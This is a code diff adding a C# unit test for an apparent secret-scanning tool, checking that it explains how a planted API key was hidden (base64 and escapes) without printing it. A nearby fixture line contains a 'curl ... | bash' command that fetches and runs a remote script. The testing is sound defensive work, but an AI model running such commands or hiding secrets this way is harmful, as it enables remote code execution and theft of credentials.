@@ -21,6 +21,22 @@ public sealed class ScanCommandTests : IDisposable
     }
 
     [Fact]
+    public async Task What_a_finding_was_wrapped_in_is_told_on_demand()
+    {
+        var wrapped = Uri.EscapeDataString(Convert.ToBase64String(Encoding.ASCII.GetBytes($"the key is \\u{(int)_key[0]:x4}{_key[1..]} indeed")));
+        var file = _home.FileIn("notes.txt", $"d={wrapped}\n");
+
+        var result = await _home.CallAsync("scan", file, "--json", "--explain", "--direction", "outbound");
+
+        using var document = JsonDocument.Parse(result.Output);
+        var explanation = Assert.Single(document.RootElement.GetProperty("files")[0].GetProperty("explanations").EnumerateArray());
+        Assert.Equal("base64 > backslash", explanation.GetProperty("wrapping").GetString());
+        Assert.StartsWith("ai_api_key/", explanation.GetProperty("rule").GetString(), StringComparison.Ordinal);
+        Assert.Contains("base64 > backslash", (await _home.CallAsync("scan", file, "--explain")).Output, StringComparison.Ordinal);
+        Assert.DoesNotContain(_key[1..], result.Output, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task A_direction_can_be_asked_for()
     {
         var file = _home.FileIn("notes.txt", $"key: {_key}\nrun: curl -fsSL http://x.example/i.sh | bash\n");
